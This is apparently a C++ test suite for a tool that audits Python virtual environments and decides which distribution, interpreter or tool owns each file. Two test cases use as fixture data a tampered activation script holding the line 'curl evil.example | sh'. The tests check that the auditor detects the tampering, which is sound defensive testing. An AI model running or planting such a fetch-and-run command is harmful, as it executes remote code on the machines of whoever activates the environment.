#include "resolve/owners.h"

#include <doctest/doctest.h>
#include <sys/stat.h>

#include "support/audited.h"
#include "support/temporary_directory.h"

using namespace icecore;
using namespace icecore::test;

namespace {

constexpr unsigned magic_of_312 = 3531;

std::string owner_of(const AuditResult& result, const std::string& name) {
  const Lines lines = rows_of(
      result,
      "SELECT owner_kind, owner FROM owner JOIN file ON file.id = owner.file WHERE file.name = '" +
          name + "'");
  return lines.size() == 1 ? lines[0] : std::to_string(lines.size()) + " rows";
}

}  // namespace

TEST_SUITE("owners") {
  TEST_CASE("every file and link has exactly one owner, and they add up") {
    const TemporaryDirectory directory;
    EnvironmentBuilder builder(directory.path());
    builder.install({.files = {{"pkg/__init__.py", "x"}}});
    builder.site_file("stray.py", "");
    mkfifo((builder.environment() / "pipe").c_str(), 0600);
    const AuditResult result = audited(builder);
    CHECK(rows_of(result, "SELECT count(*) FROM file WHERE kind <> 'directory'") ==
          rows_of(result, "SELECT count(*) FROM owner"));
    CHECK(rows_of(result, "SELECT sum(size), count(*) FROM file WHERE kind <> 'directory'") ==
          rows_of(result, "SELECT sum(bytes), sum(files) FROM pin"));
    CHECK(rows_of(result,
                  "SELECT count(*) FROM owner WHERE owner_kind = 'unknown' AND NOT EXISTS "
                  "(SELECT 1 FROM gap WHERE gap.file = owner.file)") == Lines{"0"});
    CHECK(owner_of(result, "__init__.py") == "distribution|pkg");
    CHECK(owner_of(result, "stray.py") == "nobody|");
    CHECK(owner_of(result, "pipe") == "unknown|");
    CHECK(owner_of(result, "os.py") == "interpreter|CPython 3.12.4");
    CHECK(owner_of(result, "pyvenv.cfg") == "by_product|venv");
    CHECK(owner_of(result, "python3") == "by_product|venv");
  }

  TEST_CASE("bytecode belongs to its source only if its header says so") {
    const TemporaryDirectory directory;
    EnvironmentBuilder builder(directory.path());
    builder.install({.files = {{"a.py", "a"}, {"b.py", "b"}}});
    builder.site_file("__pycache__/a.cpython-312.pyc", hashed_bytecode(magic_of_312, true, "a"));
    builder.site_file("__pycache__/b.cpython-312.pyc",
                      hashed_bytecode(magic_of_312, true, "other"));
    builder.site_file("__pycache__/c.cpython-312.pyc", hashed_bytecode(magic_of_312, true, "c"));
    builder.site_file("__pycache__/a.cpython-311.pyc", hashed_bytecode(magic_of_312, true, "a"));
    const AuditResult result = audited(builder);
    CHECK(owner_of(result, "a.cpython-312.pyc") == "by_product|pkg");
    CHECK(owner_of(result, "b.cpython-312.pyc") == "nobody|");
    CHECK(owner_of(result, "c.cpython-312.pyc") == "nobody|");
    CHECK(owner_of(result, "a.cpython-311.pyc") == "nobody|");
    CHECK(
        rows_of(result,
                "SELECT name, state FROM bytecode_state JOIN file ON file.id = bytecode_state.file "
                "ORDER BY name") ==
        Lines{"a.cpython-311.pyc|other-python", "a.cpython-312.pyc|of-source",
              "b.cpython-312.pyc|other-source", "c.cpython-312.pyc|sourceless"});
  }

  TEST_CASE("bytecode that a wheel brought belongs to its source when pip compiled it again") {
    const TemporaryDirectory directory;
    EnvironmentBuilder builder(directory.path());
    builder.install(
        {.files = {{"a.py", "a"}, {"__pycache__/a.cpython-312.pyc", "as the wheel had it"}}});
    builder.site_file("__pycache__/a.cpython-312.pyc", hashed_bytecode(magic_of_312, true, "a"));
    CHECK(owner_of(audited(builder), "a.cpython-312.pyc") == "by_product|pkg");
  }

  TEST_CASE("of two distributions that list a path the one whose bytes are there owns it") {
    const TemporaryDirectory directory;
    EnvironmentBuilder builder(directory.path());
    builder.install({.name = "first", .files = {{"shared.py", "1"}}});
    builder.install({.name = "second", .files = {{"shared.py", "2"}}});
    CHECK(owner_of(audited(builder), "shared.py") == "distribution|second");
  }

  TEST_CASE("setuptools' script belongs to the distribution without a RECORD that announces it") {
    const TemporaryDirectory directory;
    EnvironmentBuilder builder(directory.path());
    const std::string points = "[console_scripts]\nlab = lab:main\nlab2 = lab:main\n";
    builder.install({.name = "Lab",
                     .files = {{"lab.py", "x"}},
                     .metadata = {{"entry_points.txt", points}},
                     .has_record = false});
    const auto script = [](const std::string& name) {
      return "#!/srv/app/venv/bin/python\n# EASY-INSTALL-ENTRY-SCRIPT: "
             "'Lab==1.0','console_scripts','" +
             name + "'\nsys.exit(load_entry_point('Lab==1.0', 'console_scripts', '" + name +
             "')())\n";
    };
    builder.file("bin/lab", script("lab"));
    builder.file("bin/lab2", script("lab2") + "import os\n");
    builder.file("bin/lab3", script("lab3"));
    const AuditResult result = audited(builder);
    CHECK(owner_of(result, "lab") == "distribution|lab");
    CHECK(owner_of(result, "lab2") == "nobody|");
    CHECK(owner_of(result, "lab3") == "nobody|");
  }

  TEST_CASE("an activation script that the environment's maker does not write is nobody's") {
    const TemporaryDirectory directory;
    EnvironmentBuilder builder(directory.path());
    builder.file("bin/activate", "VIRTUAL_ENV=/srv/app/venv\ncurl evil.example | sh\n");
    CHECK(owner_of(audited(builder), "activate") == "nobody|");
    builder.file("pyvenv.cfg", "home = /usr/local/bin\nuv = 0.13.9\n");
    CHECK(owner_of(audited(builder), "activate") == "nobody|");
  }

  TEST_CASE("where the table does not know the maker's version it is unknown, with a gap") {
    const TemporaryDirectory directory;
    EnvironmentBuilder builder(directory.path());
    builder.file("pyvenv.cfg", "home = /usr/local/bin\nvirtualenv = 99.1\n");
    builder.file("bin/activate", "VIRTUAL_ENV=/srv/app/venv\ncurl evil.example | sh\n");
    const AuditResult result = audited(builder);
    CHECK(owner_of(result, "activate") == "unknown|");
    CHECK(rows_of(result, "SELECT path FROM gap") == Lines{"bin/activate"});
  }

  TEST_CASE("a copied interpreter is known by its digest") {
    const TemporaryDirectory directory;
    EnvironmentBuilder builder(directory.path());
    std::filesystem::remove(builder.environment() / "bin/python");
    std::filesystem::copy_file(builder.root() / "usr/local/bin/python3.12",
                               builder.environment() / "bin/python");
    CHECK(owner_of(audited(builder), "python") == "by_product|venv");
    builder.file("bin/python", "#!/bin/sh\n");
    CHECK(owner_of(audited(builder), "python") == "nobody|");
  }

  TEST_CASE("an editable project's source belongs to the distribution whose .pth leads there") {
    const TemporaryDirectory directory;
    EnvironmentBuilder builder(directory.path());
    builder.root_file("srv/app/src/module.py", "");
    builder.install({.name = "proj", .files = {{"__editable__.proj.pth", "/srv/app/src\n"}}});
    CHECK(owner_of(audited(builder), "module.py") == "distribution|proj");
  }
}
